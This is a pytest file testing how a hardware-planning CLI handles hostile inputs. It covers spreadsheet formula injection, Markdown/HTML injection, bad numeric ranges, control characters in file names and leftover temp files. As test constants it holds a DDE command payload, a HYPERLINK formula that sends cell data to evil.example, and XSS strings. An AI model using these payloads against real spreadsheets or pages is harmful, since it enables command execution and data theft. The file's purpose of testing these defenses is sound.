"""The issue's second list of hostile inputs (group 7 of benchmarks/bench_hostile.py): formula
injection into .xlsx through chip names, Markdown through chip names and sources, degenerate rates
(the rate flags and every kind of chip-file number), output names with control characters, and
the temporary file a SIGKILL leaves behind. Each test asserts the exact behavior."""

from __future__ import annotations

import csv
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from shardline.errors import InputError
from shardline.io.safe_text import md_code, md_text
from tests.cli_run import run_cli

ROOT = Path(__file__).resolve().parent.parent
H100 = ROOT / "src" / "shardline" / "hardware" / "catalog" / "h100-sxm.toml"
DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RATE = "must be a finite rate of at least 1 B/s and at most 1e+30 B/s"
LATENCY = "must be a finite time from 0 to 1e+06 s"


def _error(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    """The one error line of a run that must fail with exit status 2."""
    code, _, err = run_cli(capsys, *argv)
    lines = err.strip().splitlines()
    assert code == 2 and len(lines) == 1 and lines[0].startswith("error: "), err
    return lines[0]


def _toml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _chip(
    tmp_path: Path, name: str = "h100-test", display: str = "H100 test", **numbers: str
) -> Path:
    """The shipped H100 file, renamed, without aliases, with `table__key=value` numbers replaced."""
    text = H100.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^aliases = .*\n", "", text)
    text = re.sub(r'(?m)^name = ".*"$', lambda _: f"name = {_toml(name)}", text)
    text = re.sub(r'(?m)^display_name = ".*"$', lambda _: f"display_name = {_toml(display)}", text)
    for spec, value in numbers.items():
        table, key = spec.split("__")
        block = re.search(rf"(?ms)^\[{re.escape(table)}\]\n(.*?)(?=^\[|\Z)", text)
        assert block is not None, table
        body = re.sub(rf"(?m)^({key} = \{{ value = )[^,]+", rf"\g<1>{value}", block.group(1))
        assert body != block.group(1), spec
        text = text[: block.start(1)] + body + text[block.end(1) :]
    path = tmp_path / f"chip{len(list(tmp_path.glob('chip*.toml')))}.toml"
    path.write_text(text, encoding="utf-8")
    return path


# --- formula injection into .xlsx -------------------------------------------------------------


@pytest.mark.parametrize(("name", "display"), [(LINK, DDE), ("dde", DDE), (DDE, "plain")])
def test_template_keeps_chip_names_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, display: str
) -> None:
    from openpyxl import load_workbook

    chip = _chip(tmp_path, name, display)
    out = tmp_path / "t.xlsx"
    code, _, err = run_cli(capsys, "template", str(out), "--hw", str(chip))
    assert code == 0, err
    ws = load_workbook(out).active
    assert (ws["B4"].value, ws["B4"].data_type) == (display, "s")
    assert (ws["C4"].value, ws["C4"].data_type) == (name.lower(), "s")
    # a dtype the chip has no peak for: the note starts with the chip's name, as text
    assert ws["D9"].value == f"{name.lower()} has no fp64 peak: storage only"
    assert ws["D9"].data_type == "s"
    with zipfile.ZipFile(out) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas and not any("cmd|" in f or "HYPERLINK" in f.upper() for f in formulas)


def test_template_keeps_a_source_and_sheet_names_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from openpyxl import load_workbook

    chip = _chip(tmp_path)
    text = chip.read_text(encoding="utf-8")
    chip.write_text(
        re.sub(r'(?m)^(bytes_per_s = \{ value = [^,]+, source = )"[^"]*"',
               lambda m: m.group(1) + _toml(DDE), text, count=1),
        encoding="utf-8",
    )  # fmt: skip
    shapes = tmp_path / "s.csv"
    quoted = '"' + LINK.replace('"', '""') + '"'
    shapes.write_text(f"name,m,k,n\n{quoted},64,64,64\n")
    out = tmp_path / "t.xlsx"
    code, _, err = run_cli(capsys, "template", str(out), "--hw", str(chip), "--from", str(shapes))
    assert code == 0, err
    ws = load_workbook(out).active
    assert (ws["C5"].value, ws["C5"].data_type) == (DDE, "s")
    assert (ws["A21"].value, ws["A21"].data_type) == (LINK, "s")
    assert ws["I21"].data_type == "f"  # the template's own formulas stay formulas


def test_calibrate_csvs_neutralize_text(tmp_path: Path) -> None:
    from shardline.calibrate.chipfile import write_partial_csv

    out = tmp_path / "p.csv"
    write_partial_csv(out, [{"kind": DDE, "seconds": 1.5}, {"kind": "-5", "seconds": 2}])
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["kind"] for r in rows] == ["'" + DDE, "-5"]
    assert [r["seconds"] for r in rows] == ["1.5", "2"]


# --- Markdown through a chip's name and sources -----------------------------------------------


def test_explain_escapes_chip_name_and_sources(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    chip = _chip(tmp_path, "x`<img src=x onerror=alert(1)>`", "<b>H</b>[a](javascript:alert(1))")
    text = chip.read_text(encoding="utf-8")
    chip.write_text(
        re.sub(r'(?m)^(bytes_per_s = \{ value = [^,]+, source = )"[^"]*"',
               lambda m: m.group(1) + _toml("<script>x</script>"), text, count=1),
        encoding="utf-8",
    )  # fmt: skip
    code, out, err = run_cli(capsys, "explain", "matmul", "4096", "4096", "4096", "--hw", str(chip))
    assert code == 0, err
    lowered = out.lower()
    assert "<img" not in lowered and "<script" not in lowered and "<b>" not in lowered
    assert "](javascript" not in lowered
    assert "(x\\`&lt;img src=x onerror=alert(1)&gt;\\`)" in out
    assert "(source: &lt;script&gt;x&lt;/script&gt;)" in out


def test_md_code_is_a_span_only_for_plain_names() -> None:
    assert md_code("h100-sxm") == "`h100-sxm`"
    assert md_code("a`b<c>") == "a\\`b&lt;c&gt;"
    assert md_text("x`y") == "x\\`y"


# --- degenerate rates ---------------------------------------------------------------------------

SHARD = ["shard", "8192", "8192", "8192", "--devices", "8", "--along", "k", "--hw", "h100-sxm"]
PLAN = ["plan", "--model", "llama-3.2-1b", "--devices", "8", "--hw", "h100-sxm"]
COLLECTIVE = ["collective", "all-reduce", "--bytes", "1e9", "--devices", "16", "--hw", "h100-sxm"]


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        ([*SHARD, "--link-bw", "1e-300"], f"--link-bw {RATE}, got 1e-300"),
        ([*SHARD, "--link-bw", "5e-324"], f"--link-bw {RATE}, got 5e-324"),
        ([*SHARD, "--link-bw", "1e31"], f"--link-bw {RATE}, got 1e+31"),
        ([*PLAN, "--link-bw", "1e-300"], f"--link-bw {RATE}, got 1e-300"),
        ([*PLAN, "--nic-bw", "1e-300"], f"--nic-bw {RATE}, got 1e-300"),
        ([*PLAN, "--mem-bw", "1e300"], f"--mem-bw {RATE}, got 1e+300"),
        (
            [*PLAN, "--flops-per-s", "0.5"],
            "--flops-per-s must be a finite rate of at least 1 FLOP/s and at most 1e+30 FLOP/s, "
            "got 0.5",
        ),
        ([*COLLECTIVE, "--nic-bw", "0"], f"--nic-bw {RATE}, got 0.0"),
        ([*COLLECTIVE, "--latency", "1e300"], f"--latency {LATENCY}, got 1e+300"),
        ([*SHARD, "--latency", "-1"], f"--latency {LATENCY}, got -1.0"),
    ],
    ids=lambda v: " ".join(v[-2:]) if isinstance(v, list) else None,
)  # fmt: skip
def test_degenerate_rate_flags(
    capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    assert _error(capsys, *argv) == f"error: {message}"


@pytest.mark.parametrize(
    "argv",
    [
        [*SHARD, "--link-bw", "1", "--json"],
        [*SHARD, "--link-bw", "1e30", "--json"],
        [*PLAN, "--link-bw", "1", "--json"],
        [*PLAN, "--latency", "1e-300", "--json"],
        [*COLLECTIVE, "--latency", "1e6", "--json"],
    ],
    ids=lambda v: " ".join(v[-3:-1]),
)
def test_edge_rates_give_finite_answers(
    capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    code, out, err = run_cli(capsys, *argv)
    assert code == 0 and err == "", err
    assert "Infinity" not in out and "NaN" not in out and out.startswith("{")


def test_link_bw_of_one_byte_per_second_prices_the_reduction(
    capsys: pytest.CaptureFixture[str],
) -> None:
    import json

    code, out, _ = run_cli(capsys, *SHARD, "--link-bw", "1", "--json")
    assert code == 0
    payload = json.loads(out)
    network = payload["cost"]["t_network_s"] if "cost" in payload else payload["t_network_s"]
    # a k-split all-reduces an 8192 x 8192 output (at least 2 bytes each) over a 1 B/s link
    assert network > 8192 * 8192


SIZE, PER_S, TIME = "a size in bytes", "a rate per second", "a time in seconds"
BIG, UP_TO_1E6 = "from 1 to 1e+30", "from 0 to 1e+06"
FRACTION = "a fraction: from 0.001 to 1"


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("memory__capacity_bytes", "1e-300", f"{SIZE}: {BIG}, got 1e-300"),
        ("memory__reported_bytes", "5e-324", f"{SIZE}: {BIG}, got 5e-324"),
        ("memory__bytes_per_s", "1e31", f"{PER_S}: {BIG}, got 1e+31"),
        ("interconnect.scale_out__bytes_per_s_per_device", "1e-300", f"{PER_S}: {BIG}, got 1e-300"),
        ("interconnect__hop_latency_s", "1e300", f"{TIME}: {UP_TO_1E6}, got 1e+300"),
        ("achievable__collective_bus_efficiency", "1e-300", f"{FRACTION}, got 1e-300"),
        ("on_chip__clock_hz", "1e-300", f"{PER_S}: {BIG}, got 1e-300"),
        ("on_chip__cores", "1e300", "a count: from 1 to 1e+09, got 1e+300"),
    ],
    ids=lambda v: v if isinstance(v, str) and "__" in v else None,
)  # fmt: skip
def test_chip_numbers_out_of_range(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], field: str, value: str, message: str
) -> None:
    chip = _chip(tmp_path, **{field: value})
    line = _error(capsys, *PLAN[:-2], "--hw", str(chip))
    dotted = field.replace("__", ".")
    assert line == f"error: {chip}: field '{dotted}' is {message}"


def test_capacity_and_reported_capacity_agree(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A capacity far from the reported figure is refused: the fits checks would otherwise use the
    reported one and say nothing of the other. Without a reported figure, the capacity is used."""
    from shardline.hardware import load_chip

    chip = _chip(tmp_path, memory__capacity_bytes="1")
    line = _error(capsys, *PLAN[:-2], "--hw", str(chip))
    assert line == (
        f"error: {chip}: field 'memory.reported_bytes' (8.552e+10 B) is more than 2x away from "
        "memory.capacity_bytes (1 B): both are this device's memory, and the fits checks use the "
        "reported one; fix the one that is wrong"
    )
    assert load_chip(str(_chip(tmp_path, memory__capacity_bytes="43e9"))).capacity_bytes == 43e9
    text = chip.read_text(encoding="utf-8")
    path = tmp_path / "noreported.toml"
    path.write_text(re.sub(r"(?m)^reported_bytes = .*\n", "", text), encoding="utf-8")
    assert load_chip(str(path)).usable_capacity_bytes == 1.0


def test_tiny_hop_latency_is_an_answer(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    chip = _chip(tmp_path, interconnect__hop_latency_s="1e-300")
    code, out, err = run_cli(capsys, *PLAN[:-2], "--hw", str(chip), "--json")
    assert code == 0 and err == "" and out.startswith('{\n  "workload"')
    assert "Infinity" not in out and "NaN" not in out


def test_field_ranges_by_kind() -> None:
    from shardline.hardware.ranges import field_range

    assert field_range("interconnect.scale_out.bytes_per_s_per_device") == (
        "a rate per second",
        1.0,
        1e30,
    )
    assert field_range("on_chip.clock_hz")[1:] == (1.0, 1e30)
    assert field_range("achievable.kernel_floor_s")[1:] == (0.0, 1e6)
    assert field_range("scale_out.efficiency")[1:] == (1e-3, 1.0)
    assert field_range("on_chip.align_bytes", integer=True)[1:] == (1, 10**9)
    assert field_range("memory.capacity_bytes")[1:] == (1.0, 1e30)


def test_nic_bw_of_the_python_api() -> None:
    from shardline.hardware.systems import load_system, override_system

    with pytest.raises(InputError, match=r"--nic-bw must be a finite rate .* got 1e-300"):
        override_system(load_system("dgx-h100"), nic_bytes_per_s=1e-300)


def test_guards_behind_the_ranges() -> None:
    from shardline.planning.reasons import _ratio

    assert _ratio(2.0, 1.0) == 2.0 and _ratio(0.0, 0.0) == 1.0 and _ratio(1.0, 0.0) == float("inf")


# --- output names and leftovers -------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("\nout.csv", r"'\nout.csv': the name holds U+000A (line feed) at character 1"),
        ("o\x1b[2Jut.csv", r"'o\x1b[2Jut.csv': the name holds U+001B (escape) at character 2"),
        ("out\t.md", r"'out\t.md': the name holds U+0009 (tab) at character 4"),
        ("o\u202eut.xlsx", r"'o\u202eut.xlsx': the name holds U+202E (right-to-left override) at "
         "character 2"),
    ],
)  # fmt: skip
def test_output_names_with_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
    name: str, message: str,
) -> None:  # fmt: skip
    monkeypatch.chdir(tmp_path)
    (tmp_path / "s.csv").write_text("m,k,n\n64,64,64\n")
    line = _error(capsys, "sheet", "s.csv", "-o", name, "--hw", "h100-sxm")
    assert line == f"error: output {message}; choose a name of printable characters"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.csv"]


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_next_write_removes_a_killed_runs_temporary(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "s.csv").write_text("m,k,n\n64,64,64\n")
    stale = tmp_path / f".out.csv.shardline-{_dead_pid()}.k2j3h4g5.tmp"
    live = tmp_path / f".out.csv.shardline-{os.getppid()}.a1b2c3d4.tmp"  # a running process
    other = tmp_path / f".other.csv.shardline-{_dead_pid()}.a1b2c3d4.tmp"  # another output's
    for p in (stale, live, other):
        p.write_text("partial")
    code, _, err = run_cli(capsys, "sheet", "s.csv", "-o", "out.csv", "--hw", "h100-sxm")
    assert code == 0, err
    assert not stale.exists() and live.exists() and other.exists()
    assert (tmp_path / "out.csv").read_text().startswith("m,k,n,flops,")


@pytest.mark.slow
def test_sigkill_during_a_write_then_the_next_run(tmp_path: Path) -> None:
    """A real SIGKILL while the temporary file is being written: it stays (nothing can run on
    SIGKILL), named after the output and the process; the next write of that output removes it."""
    rows = "".join(f"{64 + i % 50},{64 + i % 7},{64 + i % 3}\n" for i in range(300_000))
    (tmp_path / "s.csv").write_text("m,k,n\n" + rows)
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    argv = [
        sys.executable,
        "-m",
        "shardline",
        "sheet",
        "s.csv",
        "-o",
        "out.csv",
        "--hw",
        "h100-sxm",
    ]
    proc = subprocess.Popen(argv, cwd=tmp_path, env=env, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)  # fmt: skip
    deadline = time.monotonic() + 120
    while not list(tmp_path.glob(".out.csv.*.tmp")) and proc.poll() is None:
        assert time.monotonic() < deadline
        time.sleep(0.002)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    left = list(tmp_path.glob(".out.csv.*.tmp"))
    if not left:
        pytest.skip("the run finished before the signal")
    assert [p.name.split(".")[3] for p in left] == [f"shardline-{proc.pid}"]
    done = subprocess.run([*argv, "--force"], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert list(tmp_path.glob(".*.tmp")) == []
